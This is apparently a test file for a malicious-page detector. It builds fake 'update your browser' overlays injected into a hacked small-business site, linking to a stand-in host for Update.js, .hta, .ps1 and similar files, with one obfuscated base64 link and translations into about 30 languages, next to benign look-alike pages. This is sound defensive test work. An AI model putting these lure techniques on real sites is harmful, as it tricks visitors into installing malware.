import { describe } from 'bun:test'
import { judgedAs, link, neverBenignByAMark, type Pages, page, prose } from './kinds.ts'

const SITE = 'https://www.kern-carpentry.com/'
const LINKS = Array.from({ length: 24 }, (_, at) => link(`/work/${at}`, `Work ${at}`)).join('')
/** A site of somebody's own, with a name and many links, into which something was put. */
const hacked = (inside: string, head = '') =>
  page(
    'Kern Carpentry',
    `<header><h1>Kern Carpentry</h1><nav>${LINKS}</nav></header>${prose('Furniture since 1961.', 20)}<footer>© 2026 Kern Carpentry</footer>${inside}`,
    head,
  )
const FILE = 'https://cdn-upd.top/Update.js'
const told = (way: string) =>
  `<h2>Update your browser</h2><p>You are using an outdated version of Chrome. Update to continue.</p>${way}`
const NOTICE = told(link(FILE, 'Update Chrome'))
const FIXED = 'position:fixed;inset:0;background:#fff;z-index:99999'
const inScript = (html: string) => JSON.stringify(html).replaceAll('</', '<\\/')

/** How the notice is put over the page. */
const OVERLAYS: Readonly<Record<string, (notice: string) => string>> = {
  'a fixed box': (notice) => hacked(`<div style="${FIXED}">${notice}</div>`),
  'a fixed box by a style sheet': (notice) =>
    hacked(`<div class=ov>${notice}</div>`, `<style>.ov{${FIXED}}</style>`),
  'an open dialog': (notice) => hacked(`<dialog open>${notice}</dialog>`),
  'a dialog that a script opens': (notice) =>
    hacked(`<dialog id=d>${notice}</dialog><script>d.showModal()</script>`),
  'a box with the role of a dialog': (notice) => hacked(`<div role=dialog aria-modal=true>${notice}</div>`),
  'a box that a script draws': (notice) =>
    hacked(
      `<script>const e=document.createElement("div");e.style.cssText="${FIXED}";e.innerHTML=${inScript(notice)};document.body.append(e)</script>`,
    ),
  'a box that a script draws later': (notice) =>
    hacked(
      `<script>setTimeout(()=>{const e=document.createElement("div");e.style.position="fixed";e.innerHTML=${inScript(notice)};document.body.prepend(e)},1500)</script>`,
    ),
  'a frame with its document in it': (notice) =>
    hacked(
      `<iframe style="${FIXED};width:100%;height:100%" srcdoc="${notice.replaceAll('"', '&quot;')}"></iframe>`,
    ),
  'a frame that a script draws': (notice) =>
    hacked(
      `<script>const f=document.createElement("iframe");f.style.cssText="${FIXED};width:100%;height:100%";f.srcdoc=${inScript(notice)};document.body.append(f)</script>`,
    ),
  'a document written over it': (notice) =>
    hacked(
      `<script>onload=()=>{document.documentElement.innerHTML=${inScript(`<title>Update</title><body>${notice}</body>`)}}</script>`,
    ),
  'a body that a script replaces': (notice) =>
    hacked(`<script>document.body.innerHTML=${inScript(notice)}</script>`),
  'a shadow tree': (notice) =>
    hacked(`<div id=h></div><script>h.attachShadow({mode:"open"}).innerHTML=${inScript(notice)}</script>`),
}

const NAMES =
  'Update.js Chrome.Update.exe chrome_update.msix Update.zip Update.appinstaller Update.hta Update.vbs Update.iso Update.7z Update.rar Update.msi Update.bat Update.lnk Chrome.apk Chrome.dmg Update.jse Update.wsf Update.ps1 Update.scr Update.cmd Update.jar'.split(
    ' ',
  )

/** How the file is handed out. */
const WAYS: Readonly<Record<string, string>> = {
  'a link': link(FILE, 'Update Chrome'),
  'a link to a file of the hacked site itself': link('/wp-content/uploads/Update.js', 'Update Chrome'),
  'a link to an archive of the hacked site itself': link('/wp-content/uploads/Update.zip', 'Update Chrome'),
  'a link that downloads': `<a download href="${FILE}">Update Chrome</a>`,
  'a button that leaves': `<button onclick="location.href='https://cdn-upd.top/Update.zip'">Update Chrome</button>`,
  'a button that opens': `<button onclick="window.open('https://cdn-upd.top/Update.exe')">Update Chrome</button>`,
  'a link that a script sets':
    '<a id=u href="#">Update Chrome</a><script>u.href=atob("aHR0cHM6Ly9jZG4tdXBkLnRvcC9VcGRhdGUuemlw")</script>',
  'a file that a script makes': `<button id=u>Update Chrome</button><script>u.onclick=()=>{const a=document.createElement("a");a.href=URL.createObjectURL(new Blob(["WScript.Shell"]));a.download="Update.js";a.click()}</script>`,
  'a form': '<form action="https://cdn-upd.top/Update.exe"><button>Update Chrome</button></form>',
  'a frame': `<button>Update Chrome</button><iframe hidden src="https://cdn-upd.top/Update.exe"></iframe>`,
}

const LANGUAGES: Readonly<Record<string, readonly [heading: string, text: string, button: string]>> = {
  de: [
    'Aktualisieren Sie Ihren Browser',
    'Sie verwenden eine veraltete Version von Chrome.',
    'Chrome aktualisieren',
  ],
  fr: [
    'Mettez à jour votre navigateur',
    'Vous utilisez une version obsolète de Chrome.',
    'Mettre à jour Chrome',
  ],
  es: ['Actualice su navegador', 'Está usando una versión desactualizada de Chrome.', 'Actualizar Chrome'],
  it: ['Aggiorna il browser', 'Stai usando una versione obsoleta di Chrome.', 'Aggiorna Chrome'],
  pt: [
    'Atualize o seu navegador',
    'Você está usando uma versão desatualizada do Chrome.',
    'Atualizar Chrome',
  ],
  nl: ['Werk uw browser bij', 'U gebruikt een verouderde versie van Chrome.', 'Chrome bijwerken'],
  pl: ['Zaktualizuj przeglądarkę', 'Używasz nieaktualnej wersji Chrome.', 'Aktualizuj Chrome'],
  tr: ['Tarayıcınızı güncelleyin', 'Chrome’un eski bir sürümünü kullanıyorsunuz.', 'Chrome’u güncelle'],
  ru: ['Обновите браузер', 'Вы используете устаревшую версию Chrome.', 'Обновить Chrome'],
  ja: ['ブラウザを更新してください', '古いバージョンの Chrome を使用しています。', 'Chrome を更新'],
  zh: ['请更新您的浏览器', '您正在使用过时的 Chrome 版本。', '更新 Chrome'],
  ko: ['브라우저를 업데이트하세요', '오래된 버전의 Chrome을 사용 중입니다.', 'Chrome 업데이트'],
  ar: ['قم بتحديث متصفحك', 'أنت تستخدم إصدارًا قديمًا من Chrome.', 'تحديث Chrome'],
  cs: ['Aktualizujte svůj prohlížeč', 'Používáte zastaralou verzi Chrome.', 'Aktualizovat Chrome'],
  sk: ['Aktualizujte prehliadač', 'Používate zastaranú verziu Chrome.', 'Aktualizovať Chrome'],
  sv: ['Uppdatera din webbläsare', 'Du använder en föråldrad version av Chrome.', 'Uppdatera Chrome'],
  da: ['Opdater din browser', 'Du bruger en forældet version af Chrome.', 'Opdater Chrome'],
  nb: ['Oppdater nettleseren', 'Du bruker en utdatert versjon av Chrome.', 'Oppdater Chrome'],
  fi: ['Päivitä selaimesi', 'Käytät Chromen vanhentunutta versiota.', 'Päivitä Chrome'],
  hu: ['Frissítse böngészőjét', 'A Chrome elavult verzióját használja.', 'Chrome frissítése'],
  ro: ['Actualizați browserul', 'Folosiți o versiune învechită de Chrome.', 'Actualizează Chrome'],
  el: ['Ενημερώστε το πρόγραμμα περιήγησης', 'Χρησιμοποιείτε παλιά έκδοση του Chrome.', 'Ενημέρωση Chrome'],
  uk: ['Оновіть браузер', 'Ви використовуєте застарілу версію Chrome.', 'Оновити Chrome'],
  bg: ['Актуализирайте браузъра си', 'Използвате остаряла версия на Chrome.', 'Актуализиране на Chrome'],
  hr: ['Ažurirajte preglednik', 'Koristite zastarjelu verziju Chromea.', 'Ažuriraj Chrome'],
  he: ['עדכן את הדפדפן', 'אתה משתמש בגרסה מיושנת של Chrome.', 'עדכן את Chrome'],
  hi: ['अपना ब्राउज़र अपडेट करें', 'आप Chrome का पुराना संस्करण उपयोग कर रहे हैं।', 'Chrome अपडेट करें'],
  id: ['Perbarui browser Anda', 'Anda menggunakan versi Chrome yang usang.', 'Perbarui Chrome'],
  vi: ['Cập nhật trình duyệt', 'Bạn đang dùng phiên bản Chrome lỗi thời.', 'Cập nhật Chrome'],
  th: ['อัปเดตเบราว์เซอร์ของคุณ', 'คุณกำลังใช้ Chrome เวอร์ชันเก่า', 'อัปเดต Chrome'],
  fa: ['مرورگر خود را به‌روز کنید', 'شما از نسخه قدیمی Chrome استفاده می‌کنید.', 'به‌روزرسانی Chrome'],
}

const BROWSERS = ['Google Chrome', 'Mozilla Firefox', 'Microsoft Edge', 'Safari', 'Opera', 'Your browser']
const box = (notice: string) => OVERLAYS['a fixed box']?.(notice) ?? ''
const FRAUDS: Pages = {
  ...Object.fromEntries(Object.entries(OVERLAYS).map(([how, over]) => [how, [SITE, over(NOTICE)]])),
  ...Object.fromEntries(
    NAMES.map((name) => [
      `a file called ${name}`,
      [SITE, box(told(link(`https://cdn-upd.top/${name}`, 'Update Chrome')))],
    ]),
  ),
  ...Object.fromEntries(Object.entries(WAYS).map(([how, way]) => [how, [SITE, box(told(way))]])),
  ...Object.fromEntries(
    Object.entries(LANGUAGES).map(([language, [heading, text, button]]) => [
      `a notice in ${language}`,
      [SITE, box(`<h2>${heading}</h2><p>${text}</p>${link(FILE, button)}`)],
    ]),
  ),
  ...Object.fromEntries(
    BROWSERS.map((browser) => [
      `a notice of ${browser}`,
      [
        SITE,
        box(
          `<h2>${browser} is out of date</h2><p>An update of ${browser} is required to view this page.</p>${link('https://cdn-upd.top/Update.zip', 'Update')}`,
        ),
      ],
    ]),
  ),
}

const tool = (body: string) =>
  page('Help | Kern Carpentry', `<h1>Help</h1>${LINKS}${body}<footer>© Kern Carpentry</footer>`)
const HONEST: Pages = {
  'a note for old browsers': [
    SITE,
    hacked(
      `<div class=note>Your browser is outdated. ${link('https://browsehappy.com/', 'Update your browser')}</div>`,
    ),
  ],
  'a note that links the makers': [
    SITE,
    hacked(
      `<div style="${FIXED}"><h2>Your browser is out of date</h2>${link('https://www.google.com/chrome/', 'Chrome')}${link('https://www.mozilla.org/firefox/', 'Firefox')}</div>`,
    ),
  ],
  'a note for old browsers, in German': [
    SITE,
    hacked(
      `<div>Ihr Browser ist veraltet. ${link('https://browser-update.org/de/update.html', 'Browser aktualisieren')}</div>`,
    ),
  ],
  'a note that only closes': [
    SITE,
    hacked(`<div role=dialog>Your version of Chrome is outdated. <button>Close</button></div>`),
  ],
  'a help desk that links the maker': [
    SITE,
    tool(
      `<h2>Update Chrome</h2><p>If you use an outdated version of Chrome, update it.</p>${link('https://www.google.com/chrome/', 'Update Chrome')}`,
    ),
  ],
  'a help desk with a file of its own host': [
    SITE,
    tool(
      `<h2>Adobe Reader</h2><p>You need Adobe Reader to open our forms.</p>${link('/files/AdobeReader.exe', 'Download')}${link('https://get.adobe.com/reader/', 'adobe.com')}`,
    ),
  ],
  'a help desk with a file of its own host alone': [
    SITE,
    tool(
      `<h2>7-Zip</h2><p>Our plans are packed. Install 7-Zip to open them.</p>${link('/files/7z.exe', 'Download 7-Zip')}`,
    ),
  ],
  'a download of plans': [
    SITE,
    hacked(`<div style="${FIXED}"><h2>Plans</h2>${link('/plans.zip', 'Download plans')}</div>`),
  ],
  'an app of its own in a dialog': [
    SITE,
    hacked(
      `<dialog open><h2>Kern Carpentry app</h2><p>Update our app.</p>${link('/kern.apk', 'Update')}</dialog>`,
    ),
  ],
  'a cookie dialog': [SITE, hacked(`<div style="${FIXED}"><h2>Cookies</h2><button>Accept</button></div>`)],
  'a newsletter in a dialog': [
    SITE,
    hacked(
      '<dialog open><h2>News</h2><p>Get updates.</p><input type=email><button>Subscribe</button></dialog>',
    ),
  ],
  'scripts to read on a page about browsers': [
    'https://www.vandorelh.com/polyfill',
    page(
      'Vandorelh Polyfill',
      `<h1>Vandorelh Polyfill</h1>${prose('For an outdated version of Chrome.', 10)}${link('/dist/polyfill.js', 'polyfill.js')}`,
    ),
  ],
  'an extension of a browser': [
    'https://www.vandorelh.com/extension',
    page(
      'Vandorelh for Chrome',
      `<h1>Vandorelh for Chrome</h1><p>Requires the latest version of Chrome.</p>${link('https://chromewebstore.google.com/detail/x', 'Add to Chrome')}`,
    ),
  ],
  'an article on fake updates': [
    'https://www.vandorelh.com/news',
    page(
      'Fake browser updates | Vandorelh',
      `<h1>Fake browser updates spread malware</h1>${prose('The page says that your version of Chrome is outdated. The file is called Update.js.', 60)}${link('/report.zip', 'Indicators (zip)')}`,
    ),
  ],
  'a driver of a maker': [
    'https://www.vandorelh.com/drivers',
    page(
      'Vandorelh Drivers',
      `<h1>Vandorelh drivers</h1><p>Your driver is out of date? Update it here.</p>${link('/VandorelhDriver.exe', 'Update driver')}`,
    ),
  ],
  'a plugin of a site’s own': [
    'https://sign.vandorelh.com/',
    page(
      'Vandorelh Sign',
      `<h1>Vandorelh Sign</h1><p>Update the Vandorelh signing plugin to continue.</p>${link('/VandorelhSign.msi', 'Update plugin')}`,
    ),
  ],
}

describe('a fake update over a site that is somebody’s own [T16]', () => {
  judgedAs('dangerous', FRAUDS)
  judgedAs('benign', HONEST)
  neverBenignByAMark(FRAUDS)
})
